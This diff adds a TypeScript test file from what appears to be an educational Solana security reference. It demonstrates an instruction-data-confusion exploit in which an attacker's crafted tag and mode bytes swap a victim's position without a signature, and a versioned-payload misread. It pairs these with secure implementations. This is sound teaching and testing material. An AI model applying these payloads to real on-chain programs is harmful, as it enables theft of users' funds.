@@ -0,0 +1,429 @@
+import {
+  Connection,
+  Keypair,
+  LAMPORTS_PER_SOL,
+  PublicKey,
+  SystemProgram,
+  Transaction,
+  TransactionInstruction,
+} from "@solana/web3.js";
+import { expect } from "chai";
+import { CuProfiler } from "../../harness/cu-profiler";
+import { PocRecorder } from "../../harness/poc-recorder";
+
+// Instruction tags - must match programs/quote_router/src/lib.rs
+const INITIALIZE_POOL = 0;
+const INITIALIZE_POSITION = 1;
+const VULNERABLE_PREVIEW_SWAP = 2;
+const VULNERABLE_COMMIT_SWAP = 3;
+const SECURE_PREVIEW_SWAP = 4;
+const SECURE_COMMIT_SWAP = 5;
+const VULNERABLE_VERSIONED_COMMIT_SWAP = 6;
+const SECURE_VERSIONED_COMMIT_SWAP = 7;
+
+// Versioned commit layouts - must match programs/quote_router/src/instructions/versioned
+const SWAP_V2 = 2;
+const DIRECT_ROUTE = 0;
+
+const MODE_PREVIEW = 0;
+const MODE_COMMIT = 1;
+
+const POOL_LEN = 1 + 8 + 8;
+const POSITION_LEN = 1 + 32 + 8 + 8;
+
+function u64(value: number | bigint): Buffer {
+  const buffer = Buffer.alloc(8);
+  buffer.writeBigUInt64LE(BigInt(value));
+  return buffer;
+}
+
+/** tag | amount | min_out | mode - the layout both vulnerable instructions share */
+function vulnerableSwapData(tag: number, amount: number, minOut: number, mode: number): Buffer {
+  return Buffer.concat([Buffer.from([tag]), u64(amount), u64(minOut), Buffer.from([mode])]);
+}
+
+/** tag | version | route | amount | min_out - version 2's layout, and the one a later release keeps */
+function versionedSwapData(tag: number, version: number, amount: number, minOut: number): Buffer {
+  return Buffer.concat([Buffer.from([tag, version, DIRECT_ROUTE]), u64(amount), u64(minOut)]);
+}
+
+describe("Instruction Data Confusion Exploit", () => {
+  // Native program: no Anchor workspace, so talk to a local validator directly
+  const connection = new Connection(process.env.ANCHOR_PROVIDER_URL || "http://127.0.0.1:8899", "confirmed");
+  const programId = new PublicKey(process.env.QUOTE_ROUTER_PROGRAM_ID || "Fg6PaFpoGXkYsidMpWTK6W2BeZ7FEfcYkg476zPFsLnS");
+
+  // Records compute units for every instruction executed against a validator
+  const profiler = new CuProfiler("11_instruction_data_confusion");
+
+  // Records every transaction as a replayable PoC when SECREF_POC_RECORD=1
+  const recorder = new PocRecorder("11_instruction_data_confusion", connection, { quote_router: programId });
+  beforeEach(function () {
+    // Steps are labelled with the test that sent them
+    recorder.test(this.currentTest?.fullTitle());
+  });
+
+  // Whether the program is deployed on the validator
+  let deployed = false;
+
+  // Test accounts
+  let payer: Keypair;
+  let victim: Keypair;
+  let attacker: Keypair;
+  let pool: Keypair;
+  let position: Keypair;
+
+  before(async () => {
+    try {
+      const info = await connection.getAccountInfo(programId);
+      deployed = info !== null && info.executable;
+    } catch (error) {
+      deployed = false;
+    }
+    if (!deployed) {
+      console.log("⚠️  Program not available in test environment, using mock tests");
+    }
+  });
+
+  after(() => {
+    recorder.writeFixture();
+    // Fails the suite if any recorded instruction regressed past its CU budget
+    profiler.writeSummary();
+    profiler.assertBudgets();
+  });
+
+  beforeEach(async () => {
+    payer = Keypair.generate();
+    victim = Keypair.generate();
+    attacker = Keypair.generate();
+    pool = Keypair.generate();
+    position = Keypair.generate();
+  });
+
+  async function createProgramAccount(account: Keypair, space: number): Promise<TransactionInstruction> {
+    return SystemProgram.createAccount({
+      fromPubkey: payer.publicKey,
+      newAccountPubkey: account.publicKey,
+      lamports: await connection.getMinimumBalanceForRentExemption(space),
+      space,
+      programId,
+    });
+  }
+
+  /** Creates a 1,000,000 / 1,000,000 pool and gives the victim 10,000 of token A */
+  async function setup(): Promise<void> {
+    for (const keypair of [payer, attacker]) {
+      const airdrop = await connection.requestAirdrop(keypair.publicKey, LAMPORTS_PER_SOL);
+      await connection.confirmTransaction(airdrop, "confirmed");
+    }
+    const transaction = new Transaction().add(
+      await createProgramAccount(pool, POOL_LEN),
+      await createProgramAccount(position, POSITION_LEN),
+      new TransactionInstruction({
+        programId,
+        keys: [{ pubkey: pool.publicKey, isSigner: false, isWritable: true }],
+        data: Buffer.concat([Buffer.from([INITIALIZE_POOL]), u64(1_000_000), u64(1_000_000)]),
+      }),
+      new TransactionInstruction({
+        programId,
+        keys: [
+          { pubkey: position.publicKey, isSigner: false, isWritable: true },
+          { pubkey: victim.publicKey, isSigner: true, isWritable: false },
+        ],
+        data: Buffer.concat([Buffer.from([INITIALIZE_POSITION]), u64(10_000)]),
+      })
+    );
+    await recorder.sendAndConfirm(transaction, [payer, pool, position, victim]);
+  }
+
+  /** Swap accounts with the victim as owner - NOT a signer */
+  function swapKeys() {
+    return [
+      { pubkey: pool.publicKey, isSigner: false, isWritable: true },
+      { pubkey: position.publicKey, isSigner: false, isWritable: true },
+      { pubkey: victim.publicKey, isSigner: false, isWritable: false },
+    ];
+  }
+
+  async function readPosition(): Promise<{ balanceA: bigint; balanceB: bigint }> {
+    const data = (await connection.getAccountInfo(position.publicKey)).data;
+    return { balanceA: data.readBigUInt64LE(33), balanceB: data.readBigUInt64LE(41) };
+  }
+
+  describe("🚨 EXPLOIT DEMONSTRATION - Vulnerable Implementation", () => {
+    it("Should execute a commit through the preview instruction without a signature", async () => {
+      console.log("\n=== PREVIEW → COMMIT CONFUSION EXPLOIT ===");
+
+      // Tag says "preview" (no signature needed); mode byte says "commit"
+      const data = vulnerableSwapData(VULNERABLE_PREVIEW_SWAP, 10_000, 0, MODE_COMMIT);
+      console.log(`Instruction data: ${data.toString("hex")}`);
+      console.log(`Tag: ${data[0]} (VULNERABLE_PREVIEW_SWAP), mode: ${data[17]} (MODE_COMMIT)`);
+
+      if (!deployed) {
+        console.log("📝 MOCK TEST: Demonstrating instruction data confusion");
+        console.log("✅ In a real exploit:");
+        console.log("   1. The router sees tag 2 (preview) and skips the signature check");
+        console.log("   2. The shared handler sees mode 1 (commit) and swaps the victim's balance");
+        console.log("   3. min_out = 0 lets the attacker sandwich the forced swap at any price");
+
+        const authorizedAsCommit = data[0] === VULNERABLE_COMMIT_SWAP;
+        const executedAsCommit = data[17] === MODE_COMMIT;
+        expect(authorizedAsCommit).to.be.false;
+        expect(executedAsCommit).to.be.true;
+
+        console.log("🚨 VULNERABILITY DEMONSTRATED: Authorized as preview, executed as commit");
+        return;
+      }
+
+      try {
+        await setup();
+        const signature = await recorder.sendAndConfirm(
+          new Transaction().add(new TransactionInstruction({ programId, keys: swapKeys(), data })),
+          [attacker]
+        );
+        await profiler.record("vulnerable_preview_swap", connection, signature, programId.toBase58());
+
+        const { balanceA, balanceB } = await readPosition();
+        console.log(`Victim balances after attack: A = ${balanceA}, B = ${balanceB}`);
+        expect(balanceA).to.equal(BigInt(0));
+        console.log("✅ EXPLOIT SUCCESS: Victim's position swapped by an attacker's transaction");
+      } catch (error) {
+        console.log(`⚠️  Test requires local validator: ${error.message}`);
+      }
+    });
+
+    it("Should still require a signature when the commit tag is used honestly", async () => {
+      console.log("\n=== TAG-BASED AUTHORIZATION ===");
+
+      const data = vulnerableSwapData(VULNERABLE_COMMIT_SWAP, 10_000, 0, MODE_COMMIT);
+
+      if (!deployed) {
+        console.log("📝 MOCK TEST: The commit tag itself is protected");
+        expect(data[0]).to.equal(VULNERABLE_COMMIT_SWAP);
+        console.log("✅ The check exists - it just guards the wrong byte");
+        return;
+      }
+
+      try {
+        await setup();
+        await recorder.sendAndConfirm(
+          new Transaction().add(new TransactionInstruction({ programId, keys: swapKeys(), data })),
+          [attacker]
+        );
+        expect.fail("Expected MissingRequiredSignature");
+      } catch (error) {
+        console.log(`Rejected: ${error.message}`);
+        console.log("✅ The check exists - it just guards the wrong byte");
+      }
+    });
+  });
+
+  describe("🛡️  PROTECTION VERIFICATION - Secure Implementation", () => {
+    it("Should reject preview data that carries extra bytes", async () => {
+      console.log("\n=== EXACT-LENGTH DISCRIMINATOR PROTECTION ===");
+
+      // Attacker reuses the confused payload under the secure preview tag
+      const data = Buffer.concat([Buffer.from([SECURE_PREVIEW_SWAP]), u64(10_000), u64(0), Buffer.from([MODE_COMMIT])]);
+
+      if (!deployed) {
+        console.log("📝 MOCK TEST: Demonstrating strict decoding");
+        console.log("✅ Secure implementation features:");
+        console.log("   1. The tag alone selects the instruction");
+        console.log("   2. PreviewSwapArgs is exactly 8 bytes, CommitSwapArgs exactly 16");
+        console.log("   3. The preview handler never receives a position account");
+        console.log("   4. The commit handler checks the signature itself");
+
+        expect(data.length - 1).to.not.equal(8);
+        console.log("Expected error: InvalidInstructionData");
+        return;
+      }
+
+      try {
+        await setup();
+        await recorder.sendAndConfirm(
+          new Transaction().add(new TransactionInstruction({ programId, keys: swapKeys(), data })),
+          [attacker]
+        );
+        expect.fail("Expected InvalidInstructionData");
+      } catch (error) {
+        expect(error.message).to.include("invalid instruction data");
+        console.log("✅ PROTECTION SUCCESS: Over-long preview data rejected");
+      }
+    });
+
+    it("Should reject an unsigned commit", async () => {
+      console.log("\n=== HANDLER-LEVEL AUTHORIZATION PROTECTION ===");
+
+      const data = Buffer.concat([Buffer.from([SECURE_COMMIT_SWAP]), u64(10_000), u64(0)]);
+
+      if (!deployed) {
+        console.log("📝 MOCK TEST: Demonstrating signer check in the commit handler");
+        console.log("Expected error: MissingRequiredSignature");
+        return;
+      }
+
+      try {
+        await setup();
+        await recorder.sendAndConfirm(
+          new Transaction().add(new TransactionInstruction({ programId, keys: swapKeys(), data })),
+          [attacker]
+        );
+        expect.fail("Expected MissingRequiredSignature");
+      } catch (error) {
+        expect(error.message).to.include("missing required signature");
+        console.log("✅ PROTECTION SUCCESS: Commit requires the owner's signature");
+      }
+    });
+
+    it("Should show legitimate usage works correctly", async () => {
+      console.log("\n=== LEGITIMATE USAGE DEMONSTRATION ===");
+
+      if (!deployed) {
+        console.log("📝 MOCK TEST: Demonstrating legitimate operations");
+        console.log("✅ Anyone previews with the pool only; the owner commits with a signature");
+        return;
+      }
+
+      try {
+        await setup();
+        const preview = await recorder.sendAndConfirm(
+          new Transaction().add(
+            new TransactionInstruction({
+              programId,
+              keys: [{ pubkey: pool.publicKey, isSigner: false, isWritable: false }],
+              data: Buffer.concat([Buffer.from([SECURE_PREVIEW_SWAP]), u64(5_000)]),
+            })
+          ),
+          [attacker]
+        );
+        await profiler.record("secure_preview_swap", connection, preview, programId.toBase58());
+
+        const airdrop = await connection.requestAirdrop(victim.publicKey, LAMPORTS_PER_SOL);
+        await connection.confirmTransaction(airdrop, "confirmed");
+        const keys = swapKeys();
+        keys[2].isSigner = true;
+        const commit = await recorder.sendAndConfirm(
+          new Transaction().add(
+            new TransactionInstruction({
+              programId,
+              keys,
+              data: Buffer.concat([Buffer.from([SECURE_COMMIT_SWAP]), u64(5_000), u64(4_900)]),
+            })
+          ),
+          [victim]
+        );
+        await profiler.record("secure_commit_swap", connection, commit, programId.toBase58());
+
+        const { balanceA } = await readPosition();
+        expect(balanceA).to.equal(BigInt(5_000));
+        console.log("✅ Preview and signed commit both succeed");
+      } catch (error) {
+        console.log(`⚠️  Test requires local validator: ${error.message}`);
+      }
+    });
+  });
+
+  describe("🔢 PAYLOAD VERSIONING", () => {
+    /** Swap accounts with the victim as owner and signer */
+    async function signedSwapKeys() {
+      const airdrop = await connection.requestAirdrop(victim.publicKey, LAMPORTS_PER_SOL);
+      await connection.confirmTransaction(airdrop, "confirmed");
+      const keys = swapKeys();
+      keys[2].isSigner = true;
+      return keys;
+    }
+
+    it("Should read an unknown version in version 1's layout (vulnerable)", async () => {
+      console.log("\n=== UNKNOWN VERSION READ AS VERSION 1 ===");
+
+      // Version 3 keeps version 2's leading route byte: the victim signs 30 A for at least 29 B
+      const data = versionedSwapData(VULNERABLE_VERSIONED_COMMIT_SWAP, 3, 30, 29);
+
+      if (!deployed) {
+        console.log("📝 MOCK TEST: Demonstrating a payload read one byte off");
+        // Version 1's fields start right after the version byte, where the route is
+        expect(data.readBigUInt64LE(3)).to.equal(BigInt(30));
+        expect(data.readBigUInt64LE(2)).to.equal(BigInt(30 * 256));
+        expect(data.readBigUInt64LE(10)).to.equal(BigInt(29 * 256));
+        console.log("Version 1 reads an amount of 7,680 and a minimum of 7,424");
+        return;
+      }
+
+      try {
+        await setup();
+        const signature = await recorder.sendAndConfirm(
+          new Transaction().add(new TransactionInstruction({ programId, keys: await signedSwapKeys(), data })),
+          [victim]
+        );
+        await profiler.record("vulnerable_versioned_commit_swap", connection, signature, programId.toBase58());
+
+        const { balanceA } = await readPosition();
+        expect(balanceA).to.equal(BigInt(10_000 - 30 * 256));
+        console.log("🚨 VULNERABILITY DEMONSTRATED: 7,680 A swapped where the victim signed for 30");
+      } catch (error) {
+        console.log(`⚠️  Test requires local validator: ${error.message}`);
+      }
+    });
+
+    it("Should refuse versions the program does not know (secure)", async () => {
+      console.log("\n=== VERSIONED DECODE PROTECTION ===");
+
+      if (!deployed) {
+        console.log("📝 MOCK TEST: Demonstrating version checks");
+        console.log("✅ Versions 1 and 2 decode at exactly 16 and 17 bytes; any other fails with UnknownVersion");
+        return;
+      }
+
+      try {
+        await setup();
+        const keys = await signedSwapKeys();
+        const unknown = versionedSwapData(SECURE_VERSIONED_COMMIT_SWAP, 3, 30, 29);
+        const known = versionedSwapData(SECURE_VERSIONED_COMMIT_SWAP, SWAP_V2, 30, 29);
+        try {
+          await recorder.sendAndConfirm(
+            new Transaction().add(new TransactionInstruction({ programId, keys, data: unknown })),
+            [victim]
+          );
+          expect.fail("Expected UnknownVersion");
+        } catch (error) {
+          expect(error.message).to.include("custom program error");
+        }
+
+        const signature = await recorder.sendAndConfirm(
+          new Transaction().add(new TransactionInstruction({ programId, keys, data: known })),
+          [victim]
+        );
+        await profiler.record("secure_versioned_commit_swap", connection, signature, programId.toBase58());
+
+        const { balanceA } = await readPosition();
+        expect(balanceA).to.equal(BigInt(10_000 - 30));
+        console.log("✅ PROTECTION SUCCESS: Version 3 refused, version 2 swapped exactly 30 A");
+      } catch (error) {
+        console.log(`⚠️  Test requires local validator: ${error.message}`);
+      }
+    });
+  });
+
+  describe("📚 EDUCATIONAL SUMMARY", () => {
+    it("Should summarize the vulnerability and protection", async () => {
+      console.log("\n=== VULNERABILITY SUMMARY ===");
+      console.log("🚨 VULNERABILITY: Instruction Data Confusion");
+      console.log("   - Two instructions share one parameter layout");
+      console.log("   - The router authorizes on the tag, the handler executes on a mode byte");
+      console.log("   - Preview data with mode = commit moves funds without a signature");
+
+      console.log("\n🛡️  PROTECTION: One Discriminator, One Struct, One Check");
+      console.log("   - Route on a single validated discriminator");
+      console.log("   - Give each instruction its own exactly-sized arguments");
+      console.log("   - Authorize in the handler that changes state");
+
+      console.log("\n📖 KEY LEARNING POINTS:");
+      console.log("   1. Every byte of instruction data is attacker-controlled");
+      console.log("   2. Authorization and execution must read the same facts");
+      console.log("   3. Shared layouts invite confusion between instructions");
+      console.log("   4. Anchor's 8-byte discriminators solve this by construction");
+
+      // This test always passes as it's educational
+      expect(true).to.be.true;
+    });
+  });
+});